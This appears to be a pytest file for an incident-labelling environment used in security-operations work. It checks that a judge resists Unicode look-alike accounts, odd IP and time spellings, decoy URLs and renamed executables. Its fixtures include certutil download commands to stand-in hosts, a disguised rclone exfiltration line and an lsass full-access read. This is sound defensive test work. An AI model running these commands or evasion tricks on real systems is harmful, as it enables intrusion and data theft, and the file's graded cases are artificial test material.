"""One thing under two names, and two things under names that look like one."""

from __future__ import annotations

import itertools
from typing import Any

import pytest
from attacks import (
    FOREIGN,
    KNOWN_BAD,
    at,
    beats,
    changed,
    event,
    failed,
    flow,
    guesses,
    incident,
    label,
    logged_on,
    objections,
    seen,
    started,
    truth_of,
)

from opensoc_env.incident import IncidentError, instant, normalise_incident
from opensoc_env.judge import default_judge
from opensoc_env.log_text import SEEN_STYLES, UNSEEN_STYLE

# Each looks like `alice`, and is another account.
LOOK_ALIKES = {
    "Cyrillic a": "\u0430lice",
    "full width": "\uff41\uff4c\uff49\uff43\uff45",
    "zero width space": "ali\u200bce",
    "zero width joiner": "alice\u200d",
    "soft hyphen": "ali\u00adce",
    "override of direction": "\u202ealice",
    "combining accent": "alice\u0301",
    "leading space": " alice",
    "trailing space": "alice ",
    "trailing dot": "alice.",
    "no-break space": "alice\u00a0",
    "ligature": "al\u0131ce",
    "null": "alice\0",
    "domain before it": "CORP\\alice",
}
STYLES = (*SEEN_STYLES, UNSEEN_STYLE)
PUBLIC = r"C:\Users\Public\a.exe"
CERTUTIL = r"certutil.exe -urlcache -f https://packages.vendor.example/a C:\a.bin"


class TestLookAlikes:
    @pytest.mark.parametrize("trick", LOOK_ALIKES)
    def test_an_account_is_not_the_one_that_it_looks_like(self, trick: str) -> None:
        document = incident(started(user=LOOK_ALIKES[trick]))

        assert objections(document) == ["events.fields.user.name"]

    @pytest.mark.parametrize("trick", LOOK_ALIKES)
    def test_a_record_of_one_does_not_cover_the_other(self, trick: str) -> None:
        record = {"actor": "alice", "asset": "ws-01", "tool": "powershell.exe"}
        document = incident(started())
        document["context"]["authorisations"][0].update(record, destination="none")
        other = changed(document, events__0__fields__user__name=LOOK_ALIKES[trick])

        assert truth_of(document) == "dismiss"
        assert truth_of(other) == "quarantine_host"

    @pytest.mark.parametrize("trick", LOOK_ALIKES)
    def test_a_machine_is_not_the_one_that_it_looks_like(self, trick: str) -> None:
        name = LOOK_ALIKES[trick].replace("alice", "ws-01")

        assert "events.fields.host.name" in objections(incident(started(host=name)))

    @pytest.mark.parametrize(
        ("trick", "style"), list(itertools.product(LOOK_ALIKES, STYLES))
    )
    def test_a_defender_sees_that_they_differ(self, trick: str, style: str) -> None:
        views = [
            seen(incident(started(user=name)), {"edr": style}).log_window[0].text
            for name in ("alice", LOOK_ALIKES[trick])
        ]

        assert views[0] != views[1]
        assert views[1].isascii()

    @pytest.mark.parametrize("trick", LOOK_ALIKES)
    def test_a_parent_that_looks_like_office_is_not_office(self, trick: str) -> None:
        name = LOOK_ALIKES[trick].replace("alice", "winword.exe")

        assert label(started(parent=name)) == "dismiss"

    def test_lone_surrogates_are_refused(self) -> None:
        with pytest.raises(IncidentError, match="Unicode"):
            truth_of(incident(started(user="alice\ud800")))


class TestCase:
    @pytest.mark.parametrize("name", ["ALICE", "Alice", "aLICE"])
    def test_an_account_is_the_same_in_any_case(self, name: str) -> None:
        assert objections(incident(started(user=name))) == []

    @pytest.mark.parametrize("name", ["SVC-DEPLOY", "Svc-Deploy"])
    def test_a_record_covers_its_account_in_any_case(self, name: str) -> None:
        event = started("certutil.exe", CERTUTIL, parent="x.exe", host="ws-02")

        assert label(changed(event, fields__user__name=name)) == "dismiss"
        assert label(event) == "monitor"

    @pytest.mark.parametrize(
        "path", [r"C:\USERS\PUBLIC\A.EXE", r"c:\users\public\a.exe"]
    )
    def test_a_path_is_the_same_in_any_case(self, path: str) -> None:
        assert label(*beats(image="a.exe", executable=path)) == "quarantine_host"

    @pytest.mark.parametrize("host", ["DC-01", "Dc-01", "dc-01"])
    def test_a_machine_of_tier_zero_is_one_in_any_case(self, host: str) -> None:
        assert label(started(host=host)) == "escalate"

    @pytest.mark.parametrize("word", ["-URLCACHE", "-UrlCache", "-urlcache"])
    def test_a_command_is_the_same_in_any_case(self, word: str) -> None:
        command = f"certutil.exe {word} -f https://stage.example/a C:\\a.bin"

        assert label(started("certutil.exe", command, parent="x.exe")) == "monitor"

    @pytest.mark.parametrize("domain", ["STAGE.bad.example", "stage.BAD.example"])
    def test_a_domain_is_the_same_in_any_case(self, domain: str) -> None:
        calls = [changed(b, fields__destination__domain=domain) for b in beats()]

        assert label(*calls) == "quarantine_host"

    def test_an_account_guessed_in_one_case_is_let_in_in_another(self) -> None:
        assert label(*guesses(), logged_on(user="Alice")) == "escalate"

    def test_one_process_is_one_in_any_case_of_its_machine(self) -> None:
        documents = [started(host="ws-01"), started(host="WS-01", log_id="e2")]

        assert label(*documents) == "quarantine_host"


class TestAddresses:
    @pytest.mark.parametrize(
        "ip",
        [
            "203.0.113.030",
            "0203.0.113.30",
            "0xcb007130",
            "3405803806",
            "203.0.113",
            "203.0.113.30/32",
            "203.0.113.30:443",
            "[2001:db8::1]",
            "203.0.113.30 ",
            "fe80::1%eth0",
            "\uff12\uff10\uff13.0.113.30",
        ],
    )
    def test_a_spelling_that_readers_disagree_on_is_refused(self, ip: str) -> None:
        with pytest.raises(IncidentError):
            truth_of(incident(failed(ip=ip)))

    @pytest.mark.parametrize("ip", ["::ffff:10.0.1.11", "::ffff:a00:10b"])
    def test_an_address_mapped_into_version_six_is_no_other_machine(
        self, ip: str
    ) -> None:
        assert label(*guesses(ip=ip)) == label(*guesses(ip="10.0.1.11"))

    @pytest.mark.parametrize("ip", ["192.0.2.9", "198.51.100.99", FOREIGN])
    def test_documentation_ranges_are_external(self, ip: str) -> None:
        assert label(*guesses(ip=ip)) == "block_ip"

    @pytest.mark.parametrize("ip", ["172.16.0.9", "192.168.1.9", "100.64.0.9"])
    def test_a_private_range_that_the_estate_lacks_is_not_ours(self, ip: str) -> None:
        assert label(*guesses(ip=ip)) != "quarantine_host"

    @pytest.mark.parametrize("ip", ["127.0.0.1", "::1", "224.0.0.251", "169.254.1.1"])
    def test_an_address_of_nobody_is_never_blocked(self, ip: str) -> None:
        assert label(*guesses(ip=ip)) != "block_ip"

    @pytest.mark.parametrize("ip", ["198.51.100.0", "198.51.100.15"])
    def test_a_shared_address_is_never_blocked(self, ip: str) -> None:
        assert label(*guesses(ip=ip)) == "monitor"

    def test_the_neighbour_of_a_shared_range_is_not_shared(self) -> None:
        assert label(*guesses(ip="198.51.100.16")) == "block_ip"


class TestTimes:
    def test_offsets_name_the_same_instants(self) -> None:
        times = [
            f"2026-03-02T{10 + n % 2}:00:{5 * n:02}+0{1 + n % 2}:00" for n in range(10)
        ]
        tries = [changed(g, timestamp=t) for g, t in zip(guesses(), times, strict=True)]

        assert label(*tries) == label(*guesses())

    def test_an_offset_does_not_stretch_a_record(self) -> None:
        record = changed(
            incident(
                started(
                    "certutil.exe",
                    CERTUTIL,
                    user="svc-deploy",
                    host="ws-02",
                    parent="x.exe",
                )
            ),
            events__0__timestamp="2026-03-02T19:00:00+01:00",
        )

        assert truth_of(record) == "dismiss"
        assert (
            truth_of(changed(record, events__0__timestamp="2026-03-02T18:00:01Z"))
            == "monitor"
        )

    def test_fractions_order_events(self) -> None:
        times = [f"2026-03-02T09:00:00.{n:09}Z" for n in (2, 1)]
        pair = [
            changed(started(log_id=f"e{n}"), timestamp=t) for n, t in enumerate(times)
        ]

        assert [e["log_id"] for e in normalise_incident(incident(*pair))["events"]] == [
            "e1",
            "e0",
        ]

    @pytest.mark.parametrize(
        ("digits", "same"), [("5", True), ("50", True), ("500000001", False)]
    )
    def test_trailing_zeros_are_no_other_time(self, digits: str, same: bool) -> None:
        one, other = (instant(f"2026-03-02T09:00:00.{d}Z") for d in ("5", digits))

        assert (one == other) == same

    def test_ties_come_in_the_order_of_their_ids_whatever_came_first(self) -> None:
        trio = [started(log_id=log_id) for log_id in ("b", "a", "B")]
        orders = {
            tuple(e["log_id"] for e in normalise_incident(incident(*p))["events"])
            for p in itertools.permutations(trio)
        }

        assert orders == {("B", "a", "b")}

    def test_ties_change_no_label(self) -> None:
        events = [*guesses(10, gap=0), logged_on(when=0)]
        found = {
            default_judge().truth(normalise_incident(incident(*p))).outcome
            for p in (events, events[::-1], events[5:] + events[:5])
        }

        assert len(found) == 1

    @pytest.mark.parametrize(
        "time",
        [
            "2026-03-02T09:00:00",
            "2026-03-02 09:00:00Z",
            "2026-02-30T09:00:00Z",
            "2026-03-02T25:00:00Z",
            "2026-03-02T09:00:60Z",
            "2026-03-02T09:00:00.1234567890Z",
            "2026-03-02T09:00:00z",
            "2026-03-02T09:00:00+25:00",
            "\uff19026-03-02T09:00:00Z",
            "",
            "now",
        ],
    )
    def test_a_time_that_is_none_is_refused(self, time: str) -> None:
        with pytest.raises(IncidentError):
            truth_of(incident(changed(started(), timestamp=time)))


class TestDomains:
    @pytest.mark.parametrize(
        "domain",
        ["stage.bad.example.evil.example", "xstage.bad.example", "bad.example"],
    )
    def test_another_domain_is_not_the_known_one(self, domain: str) -> None:
        calls = [changed(b, fields__destination__domain=domain) for b in beats()]

        assert label(*calls) == "monitor"

    @pytest.mark.parametrize(
        "url",
        [
            "https://packages.vendor.example@stage.example/a",
            "https://packages.vendor.example.stage.example/a",
            "https://packages.vendor.example:443@203.0.113.9/a",
            "https://packages.vendor.example/a https://stage.example/a",
            "https://stage.example/?https://packages.vendor.example",
            "https://stage.example/#packages.vendor.example",
        ],
    )
    def test_a_decoy_in_an_address_is_not_where_it_leads(self, url: str) -> None:
        command = f"certutil.exe -urlcache -f {url} C:\\a.bin"
        use = started(
            "certutil.exe", command, user="svc-deploy", host="ws-02", parent="x.exe"
        )

        assert label(use) == "monitor"


class TestRenamedImages:
    def test_a_renamed_shell_is_known_by_its_header(self) -> None:
        renamed = started("update.exe", pe={"original_file_name": "powershell.exe"})

        assert label(renamed) == "quarantine_host"

    def test_a_renamed_system_program_is_known_by_its_header(self) -> None:
        header = {"original_file_name": "certutil.exe"}
        command = r"u.exe -urlcache -f https://stage.example/a C:\a.bin"

        assert label(started("u.exe", command, parent="x.exe", pe=header)) == "monitor"

    def test_a_record_for_a_name_does_not_cover_what_took_the_name(self) -> None:
        command = r"certutil.exe copy C:\data remote: "
        disguised = started(
            "certutil.exe",
            command,
            user="svc-deploy",
            host="ws-02",
            parent="x.exe",
            pe={"original_file_name": "rclone.exe"},
        )

        assert label(disguised) != "dismiss"

    def test_a_program_in_another_folder_is_not_the_reader_that_is_expected(
        self,
    ) -> None:
        access = event(
            "a",
            "process.access",
            "edr",
            0,
            host={"name": "ws-01"},
            user={"name": "alice"},
            process={
                "name": "msmpeng.exe",
                "executable": r"C:\Users\Public\msmpeng.exe",
            },
            target_process={"name": "lsass.exe"},
            granted_access="0x1fffff",
        )

        assert label(access) == "quarantine_host"

    def test_a_name_beside_another_path_is_implausible(self) -> None:
        lying = started(executable=r"C:\Windows\System32\notepad.exe")

        assert objections(incident(lying)) == ["events.fields.process"]

    def test_the_known_hash_tells_whatever_the_name(self) -> None:
        known = started("a.exe", "a.exe", parent="x.exe", hash={"sha256": "b" * 64})

        assert label(known) == "quarantine_host"

    @pytest.mark.parametrize("subject", ["Microsoft Windows", "Microsoft Corporation"])
    def test_the_name_of_a_signer_is_no_signature(self, subject: str) -> None:
        signature = {"trusted": False, "subject_name": subject}
        path: dict[str, Any] = {
            "image": "a.exe",
            "executable": r"C:\Users\Public\a.exe",
        }

        assert label(*beats(**path, code_signature=signature)) == "quarantine_host"
        assert label(*beats(**path, code_signature={"trusted": True})) == "monitor"

    def test_a_beat_to_a_known_address_needs_no_name(self) -> None:
        assert label(*beats(ip=KNOWN_BAD, image="svchost.exe")) == "quarantine_host"
        assert flow()["timestamp"] == at(0)
